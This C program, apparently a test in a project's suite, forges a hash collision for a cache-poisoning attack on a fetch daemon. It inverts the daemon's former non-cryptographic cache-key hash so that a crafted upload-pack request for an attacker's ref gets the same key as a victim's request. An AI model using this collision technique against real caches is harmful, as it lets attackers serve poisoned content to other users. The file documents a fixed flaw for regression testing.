/* SPDX-License-Identifier: GPL-2.0-only */
/* t-fetchd's cache-poisoning attack: given the oid fetchd-client -r main
 * wants (VICTIM) and another ref's (ATTACK), write the victim's request
 * body and a valid upload-pack request for ATTACK whose fk_hash equals it.
 * fk_hash (fetchd's cache key before SHA-256; old_hash below, as it was
 * then: the library's fk_hash has since changed) is a chain of invertible
 * steps, so the 8 bytes hidden among the first line's capabilities are
 * solved for by running the steps backwards from the victim's hash.
 * Exits 0 only when the two bodies differ and their old hashes agree. */
#include "util/fk.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const uint64_t K = 0x9fb21c651e98df25ULL;

/* the old hash's word mix is util's integer hash */
#define mix fk_hash_u64

/* fetchd's cache key hash before SHA-256 (util/fk.c's fk_hash then) */
static uint64_t old_hash(const void *data, size_t len)
{
    const unsigned char *p = data;
    uint64_t h = 0x9e3779b97f4a7c15ULL ^ (len * 0x100000001b3ULL);
    while (len >= 8) {
        uint64_t w;
        memcpy(&w, p, 8);
        h = (h ^ mix(w)) * K;
        h ^= h >> 29;
        p += 8;
        len -= 8;
    }
    uint64_t tail = 0;
    memcpy(&tail, p, len);
    h = (h ^ mix(tail ^ len)) * K;
    return mix(h);
}

static uint64_t inverse(uint64_t a)     /* of an odd a, mod 2^64 (Newton) */
{
    uint64_t x = a;
    for (int i = 0; i < 6; i++)
        x *= 2 - a * x;
    return x;
}

static uint64_t unxorshift(uint64_t h, int s)
{
    uint64_t x = h;
    for (int i = 0; i < 64 / s + 1; i++)
        x = h ^ (x >> s);
    return x;
}

static uint64_t unmix(uint64_t h)
{
    h = unxorshift(h, 33);
    h *= inverse(0xc4ceb9fe1a85ec53ULL);
    h = unxorshift(h, 33);
    h *= inverse(0xff51afd7ed558ccdULL);
    return unxorshift(h, 33);
}

static uint64_t word(const unsigned char *p)
{
    uint64_t w;
    memcpy(&w, p, 8);
    return w;
}

static size_t pkt(unsigned char *out, const char *line, size_t len)
{
    char h[5];
    snprintf(h, sizeof h, "%04zx", len + 4);
    memcpy(out, h, 4);
    memcpy(out + 4, line, len);
    return len + 4;
}

int main(int argc, char **argv)
{
    if (argc != 5 || strlen(argv[1]) != 40 || strlen(argv[2]) != 40) {
        fprintf(stderr, "usage: fetchd-collide VICTIM-OID ATTACK-OID VICTIM-BODY ATTACK-BODY\n");
        return 2;
    }
    /* The victim: exactly what fetchd_build_request sends for one ref. */
    unsigned char v[256], a[256];
    char line[200];
    int n = snprintf(line, sizeof line, "want %s multi_ack_detailed no-done side-band-64k ofs-delta no-progress\n", argv[1]);
    size_t vl = pkt(v, line, (size_t)n);
    memcpy(v + vl, "0000", 4), vl += 4;
    vl += pkt(v + vl, "done\n", 5);
    uint64_t target = old_hash(v, vl);
    /* The attack, same length: a shorter capability list, padding, the free
     * word at an 8-byte boundary, padding, the newline. */
    const size_t line_len = (size_t)n;
    int pre = snprintf(line, sizeof line, "want %s side-band-64k ofs-delta no-progress x", argv[2]);
    size_t free_off = ((size_t)pre + 4 + 7) / 8 * 8;    /* in the body */
    for (int tries = 0; tries < 26 * 26; tries++) {
        memset(line + pre, 'a', sizeof line - (size_t)pre);
        line[pre - 1] = (char)('a' + tries % 26);
        line[pre] = (char)('a' + tries / 26);
        line[line_len - 1] = '\n';
        size_t al = pkt(a, line, line_len);
        memcpy(a + al, "0000", 4), al += 4;
        al += pkt(a + al, "done\n", 5);
        if (al != vl || free_off + 8 > 4 + line_len - 1)
            break;
        /* Forward over the words before the free one. */
        uint64_t h = 0x9e3779b97f4a7c15ULL ^ (al * 0x100000001b3ULL);
        for (size_t o = 0; o < free_off; o += 8) {
            h = (h ^ mix(word(a + o))) * K;
            h ^= h >> 29;
        }
        /* Backward from the target over the tail (al % 8 bytes) and the
         * words after the free one. */
        size_t rem = al % 8, end = al - rem;
        uint64_t tail = 0;
        memcpy(&tail, a + end, rem);
        uint64_t b = unmix(target) * inverse(K) ^ mix(tail ^ rem);
        for (size_t o = end; o > free_off + 8; o -= 8)
            b = unxorshift(b, 29) * inverse(K) ^ mix(word(a + o - 8));
        uint64_t w = unmix(unxorshift(b, 29) * inverse(K) ^ h);
        memcpy(a + free_off, &w, 8);
        /* git reads the capabilities as text: no NUL or newline inside. */
        if (memchr(a + free_off, 0, 8) || memchr(a + free_off, '\n', 8))
            continue;
        if (old_hash(a, al) != target || memcmp(a, v, vl) == 0)
            break;
        FILE *fv = fopen(argv[3], "wb"), *fa = fopen(argv[4], "wb");
        if (!fv || !fa || fwrite(v, 1, vl, fv) != vl || fwrite(a, 1, al, fa) != al ||
            fclose(fv) != 0 || fclose(fa) != 0) {
            perror("fetchd-collide: writing the bodies");
            return 1;
        }
        printf("fk_hash %016llx for both bodies (%zu bytes)\n", (unsigned long long)target, al);
        return 0;
    }
    fprintf(stderr, "fetchd-collide: no collision found\n");
    return 1;
}
